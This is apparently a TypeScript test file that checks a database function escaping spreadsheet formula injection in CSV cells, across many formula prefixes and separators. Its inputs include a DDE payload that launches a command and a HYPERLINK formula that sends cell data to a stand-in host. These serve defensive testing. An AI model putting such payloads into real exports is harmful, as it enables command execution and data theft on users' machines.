import { rowOf } from '../platform/database/database';
import { openTestDatabase, type TestDatabase } from '../testing/test-database';

let opened: TestDatabase;
beforeAll(async () => {
  opened = await openTestDatabase(2);
});
afterAll(() => opened.close());

async function safe(value: string | null): Promise<string | null> {
  const row = await rowOf<{ safe: string | null }>(opened.database, `select csv_safe($1) as safe`, [value]);
  return row?.safe ?? null;
}

describe('a cell that a spreadsheet could take for a formula', () => {
  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(1)',
    '\t=1',
    '\tplain',
    '\r=1',
    '\n=1',
    '\nplain',
    '＝1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '   =1',
    '=HYPERLINK("http://canary?"&A1)',
    "@SUM(1)*cmd|'/c calc'!A0",
  ])('%j is text afterwards', async (value) => {
    const text = await safe(value);
    expect(text?.startsWith("'")).toBe(true);
    expect(text?.replaceAll("'", '')).toBe(value.replaceAll("'", ''));
  });

  test.each(['Ελένη', "O'Neill", 'a=b', '1-2', 'a; b-c', ''])('%j stays as it is', async (value) => {
    expect(await safe(value)).toBe(value);
  });

  test.each([
    ['";=1+1', `";'=1+1`],
    ['a;=1+1;b', `a;'=1+1;b`],
    ['a; "=1+1"', `a;' "=1+1"`],
    ['a\t@SUM(1)\n-1', `a\t'@SUM(1)\n'-1`],
    ['=1;=2', `'=1;'=2`],
  ])('%j is guarded after what other spreadsheets take for a separator', async (value, guarded) => {
    expect(await safe(value)).toBe(guarded);
  });

  test('nothing stays nothing', async () => {
    expect(await safe(null)).toBeNull();
  });
});
